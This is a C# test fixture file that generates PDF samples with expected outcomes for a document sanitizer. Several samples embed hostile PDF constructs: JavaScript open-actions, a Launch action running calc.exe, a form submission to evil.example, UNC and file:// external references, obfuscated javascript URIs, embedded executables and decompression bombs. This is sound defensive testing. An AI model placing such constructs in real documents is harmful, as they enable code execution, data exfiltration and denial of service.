using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Serialization;
using Airlock.Sanitizers.Contract;
using static Airlock.Tests.Samples.Making.PdfMaker;

namespace Airlock.Tests.Samples.Making;

/// <summary>The samples of PDF: each name is a disease, each with what must become of it.</summary>
internal static class PdfSamples
{
    private static readonly JsonSerializerOptions Options = new(JsonSerializerDefaults.Web)
    {
        Converters = { new JsonStringEnumConverter() },
        DefaultIgnoreCondition = JsonIgnoreCondition.WhenWritingNull,
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
        WriteIndented = true,
    };

    private const string Script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    public static IEnumerable<(string Path, byte[] Bytes)> All() => Samples().SelectMany(sample => new[]
    {
        ($"pdf/{FileName(sample.Name)}", sample.Bytes),
        ($"pdf/{FileName(sample.Name)}.expect.json", [.. JsonSerializer.SerializeToUtf8Bytes(sample.Expected, Options), (byte)'\n']),
    });

    /// <summary>What is no PDF and lies here to be refused says so in its name.</summary>
    private static string FileName(string name) => name.Contains('.', StringComparison.Ordinal) ? name : $"{name}.pdf";

    private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Samples() =>
        [.. Whole(), .. Actions(), .. Contents(), .. Syntax(), .. PdfActionCarriers.Samples(), .. PdfContentCarriers.Samples(), .. PdfPictureCarriers.Samples(), .. PdfHiddenCarriers.Samples(), .. PdfSyntaxCarriers.Samples()];

    private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Whole()
    {
        // 診断書 in a font that is not embedded, a link, an outline, a page label: all of it stays.
        yield return ("clean", new PdfMaker(
            "/Lang(ja)/Outlines 8 0 R/PageLabels<</Nums[0<</S/r>>]>>",
            "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 50 20]/A<</S/URI/URI(https://example.jp/)>>>>]",
            "BT /F1 12 Tf 20 100 Td <90666692 8F91> Tj ET")
            .With(5, "<</Type/Font/Subtype/Type0/BaseFont/#82l#82r#96#BE#92#A9/Encoding/90ms-RKSJ-H/DescendantFonts[6 0 R]>>")
            .With(6, "<</Type/Font/Subtype/CIDFontType2/BaseFont/#82l#82r#96#BE#92#A9/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor 7 0 R/DW 1000>>")
            .With(7, "<</Type/FontDescriptor/FontName/#82l#82r#96#BE#92#A9/Flags 7/FontBBox[0 -137 1000 859]/ItalicAngle 0/Ascent 859/Descent -140/CapHeight 769/StemV 78>>")
            .With(8, "<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>")
            .With(9, "<</Title(KEPT-OUTLINE)/Parent 8 0 R/Dest[3 0 R/Fit]>>")
            .Make(), Unchanged(kept: ["KEPT-OUTLINE", "#82l#82r#96#BE#92#A9", "https://example.jp/"]));
        yield return ("dirty", new PdfMaker(
            $"/OpenAction{Script}/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>/JavaScript<</Names[(s){Script}]>>>>/AcroForm<</XFA 8 0 R/Fields[]>>/Metadata 9 0 R",
            $"/AA<</O{Script}>>/PieceInfo<</X<</Private(SECRET-PRIVATE)>>>>")
        { Trailer = "/Info<</Author(SECRET-AUTHOR)>>" }
            .With(7, "<</Type/Filespec/F(SECRET.exe)/EF<</F 10 0 R>>>>").WithStream(8, "", Latin1("<xdp>SECRET-XFA</xdp>"))
            .WithStream(9, "/Type/Metadata/Subtype/XML", Latin1("<x>SECRET-XMP</x>")).WithStream(10, "/Type/EmbeddedFile", Latin1("SECRET-PAYLOAD"))
            .Make(), Sanitized(["SECRET", "JavaScript", "app.alert", "/AA", "/XFA", "EmbeddedFile"], FindingKind.Script, FindingKind.EmbeddedFile, FindingKind.AutoAction, FindingKind.Metadata));
        yield return ("broken", [.. "%PDF-1.4\n"u8, .. Enumerable.Range(0, 400).Select(value => (byte)(value * 7))], Refused(Reasons.Corrupt));
        yield return ("encrypted-empty-password", PdfEncryption.Make(""), Sanitized(["/Encrypt"], FindingKind.EncryptedContent) with { Kept = ["KEPT-TEXT", "KEPT-NOTE"] });
        yield return ("encrypted-password", PdfEncryption.Make("hospital"),
            new Expectation { Verdict = Verdict.NeedsPassword, Reason = Reasons.PasswordNeeded, Format = FileFormat.Pdf });
        yield return ("encrypted-password-given", PdfEncryption.Make("hospital"), Sanitized(["/Encrypt"], FindingKind.EncryptedContent) with { Password = "hospital", Kept = ["KEPT-TEXT", "KEPT-NOTE"] });
        yield return ("encrypted-password-wrong", PdfEncryption.Make("hospital"),
            new Expectation { Verdict = Verdict.NeedsPassword, Reason = Reasons.PasswordWrong, Format = FileFormat.Pdf, Password = "clinic" });
    }

    private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Actions()
    {
        yield return ("javascript-openaction", new PdfMaker($"/OpenAction{Script}").Make(), Sanitized(["JavaScript", "app.alert"], FindingKind.Script));
        yield return ("names-javascript", new PdfMaker($"/Names<</JavaScript<</Names[(x){Script}]>>>>").Make(), Sanitized(["JavaScript", "app.alert"], FindingKind.Script));
        yield return ("hex-escaped-name", new PdfMaker("/Open#41ction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>").Make(), Sanitized(["JavaScript", "J#61va", "app.alert"], FindingKind.Script));
        yield return ("launch", new PdfMaker(page: Link("<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>")).Make(), Sanitized(["Launch", "calc.exe"], FindingKind.LaunchAction));
        yield return ("next-chain", new PdfMaker(page: Link($"<</S/URI/URI(https://example.jp/)/Next{Script}>>")).Make(),
            Sanitized(["JavaScript", "/Next"], FindingKind.Script) with { Kept = ["https://example.jp/"] });
        yield return ("submitform", new PdfMaker("/AcroForm<</Fields[6 0 R]>>", "/Annots[6 0 R]")
            .With(6, "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(KEPT-VALUE)/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example/)>>/AA<</K<</S/JavaScript/JS(x)>>>>>>")
            .Make(), Sanitized(["SubmitForm", "evil.example", "/AA"], FindingKind.FormSubmission, FindingKind.AutoAction) with { Kept = ["KEPT-VALUE"] });
        yield return ("field-type-no-name", new PdfMaker("/AcroForm<</Fields[<</FT 1/V(SECRET-VALUE)>>]>>").Make(), Sanitized(["SECRET-VALUE"], FindingKind.UnknownContent));
        yield return ("gotor-unc", new PdfMaker(page: Link("<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>")).Make(), Sanitized(["GoToR", "evil.example"], FindingKind.ExternalReference));
        yield return ("uri-bad-scheme", new PdfMaker(page: Link("<</S/URI/URI(file:///C:/evil.exe)>>")).Make(), Sanitized(["evil.exe"], FindingKind.ExternalReference));
        yield return ("uri-control-character", new PdfMaker(page: Link("<</S/URI/URI(java\\tscript:evil)>>")).Make(), Sanitized(["script:evil"], FindingKind.ExternalReference));
        yield return ("richmedia", new PdfMaker(page: "/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(evil.swf)6 0 R]>>>>>>]")
            .WithStream(6, "", Latin1("SECRET-SWF")).Make(), Sanitized(["RichMedia", "SECRET-SWF", "evil.swf"], FindingKind.RichMedia));
    }

    private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Contents()
    {
        yield return ("embedded-file", new PdfMaker(
            "/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>/AF[6 0 R]", "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>]")
            .With(6, "<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>").WithStream(7, "/Type/EmbeddedFile", Latin1("SECRET-PAYLOAD"))
            .Make(), Sanitized(["evil.exe", "SECRET-PAYLOAD", "FileAttachment"], FindingKind.EmbeddedFile));
        yield return ("xfa", new PdfMaker("/AcroForm<</XFA 6 0 R/Fields[<</FT/Tx/T(name)/V(KEPT-VALUE)>>]>>")
            .WithStream(6, "", Latin1("<xdp>SECRET-XFA</xdp>")).Make(), Sanitized(["SECRET-XFA", "/XFA"], FindingKind.Script) with { Kept = ["KEPT-VALUE"] });
        yield return ("xfa-dynamic", new PdfMaker("/NeedsRendering true/AcroForm<</XFA 6 0 R/Fields[]>>")
            .WithStream(6, "", Latin1("<xdp/>")).Make(), Refused(Reasons.DynamicForm));
        yield return ("signature", new PdfMaker("/AcroForm<</SigFlags 3/Fields[6 0 R]>>/Perms<</DocMDP 7 0 R>>", "/Annots[6 0 R]")
            .With(6, "<</Subtype/Widget/FT/Sig/T(sign)/V 7 0 R/Rect[0 0 9 9]>>").With(7, "<</Type/Sig/Filter/Adobe.PPKLite/Contents<5345>/Name(SECRET-SIGNER)>>")
            .Make(), Sanitized(["SECRET-SIGNER", "/Perms", "SigFlags"], FindingKind.Signature));
        yield return ("external-stream", new PdfMaker().WithStream(4, "/F(\\\\\\\\evil.example\\\\x)/FFilter/FlateDecode", Latin1(Text)).Make(),
            Sanitized(["evil.example"], FindingKind.ExternalReference) with { Kept = ["KEPT-TEXT"] });
        yield return ("postscript-xobject", new PdfMaker().With(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</P 6 0 R>>>>>>")
            .WithStream(6, "/Type/XObject/Subtype/PS", Latin1("(SECRET-PS) run")).Make(), Sanitized(["SECRET-PS"], FindingKind.Script));
        yield return ("unknown-operator", new PdfMaker(content: $"(SECRET-OPERAND) PS\n{Text}").Make(), Sanitized(["SECRET-OPERAND"], FindingKind.UnknownContent) with { Kept = ["KEPT-TEXT"] });
    }

    private static IEnumerable<(string Name, byte[] Bytes, Expectation Expected)> Syntax()
    {
        var clean = new PdfMaker().Make();
        var packed = Deflate(Latin1($"6 0 {Script}"));
        yield return ("object-stream", PdfCrossReferenceStream.Make($"/OpenAction 6 0 R", packed), Sanitized(["JavaScript", "app.alert"], FindingKind.Script) with { Kept = ["KEPT-TEXT"] });
        yield return ("prev-loop", new PdfMaker { Trailer = "/Prev START" }.Make(), Sanitized(["/Prev"], FindingKind.MalformedStructure) with { Kept = ["KEPT-TEXT"] });
        yield return ("kids-loop", new PdfMaker().With(2, "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>").Make(), Unchanged(kept: ["KEPT-TEXT"]));
        yield return ("duplicate-key", new PdfMaker($"/OpenAction[3 0 R/Fit]/OpenAction{Script}").Make(), Sanitized(["JavaScript"], FindingKind.MalformedStructure));
        yield return ("garbage-before-header", [.. "SECRET-PREAMBLE\n"u8, .. clean], Sanitized(["SECRET-PREAMBLE"], FindingKind.Preamble) with { Kept = ["KEPT-TEXT"] });
        yield return ("trailing-data", [.. clean, .. "PK SECRET-TAIL"u8], Sanitized(["SECRET-TAIL"], FindingKind.TrailingData) with { Kept = ["KEPT-TEXT"] });
        yield return ("cut-short", clean[..^120], Sanitized([], FindingKind.MalformedStructure) with { Kept = ["KEPT-TEXT"] });
        yield return ("wrong-length", Latin1(System.Text.Encoding.Latin1.GetString(clean).Replace("/Length 40", "/Length 12", StringComparison.Ordinal)),
            Sanitized([], FindingKind.MalformedStructure) with { Kept = ["KEPT-TEXT"] });
        yield return ("deep-nesting", new PdfMaker($"/Lang{new string('[', 5000)}{new string(']', 5000)}").Make(), Refused(Reasons.TooDeep));
        yield return ("flate-bomb", new PdfMaker().WithStream(4, "/Filter/FlateDecode", Deflate(new byte[4 << 20])).Make(), Refused(Reasons.Bomb));
        yield return ("filter-cascade", new PdfMaker().WithStream(4, $"/Filter[{string.Concat(Enumerable.Repeat("/ASCIIHexDecode", 50))}]", Latin1("00>")).Make(), Refused(Reasons.Bomb));
    }

    internal static string Link(string action) => $"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 50 20]/A{action}>>]";

    internal static Expectation Unchanged(IReadOnlyList<string> kept) =>
        new() { Verdict = Verdict.Unchanged, Format = FileFormat.Pdf, Output = FileFormat.Pdf, Kept = kept };

    internal static Expectation Sanitized(IReadOnlyList<string> gone, params FindingKind[] findings) => new()
    {
        Verdict = Verdict.Sanitized,
        Format = FileFormat.Pdf,
        Output = FileFormat.Pdf,
        Gone = gone,
        Findings = [.. findings.Select(kind => new ExpectedFinding { Kind = kind })],
    };

    internal static Expectation Refused(string reason) => new() { Verdict = Verdict.Refused, Reason = reason, Format = FileFormat.Pdf };
}
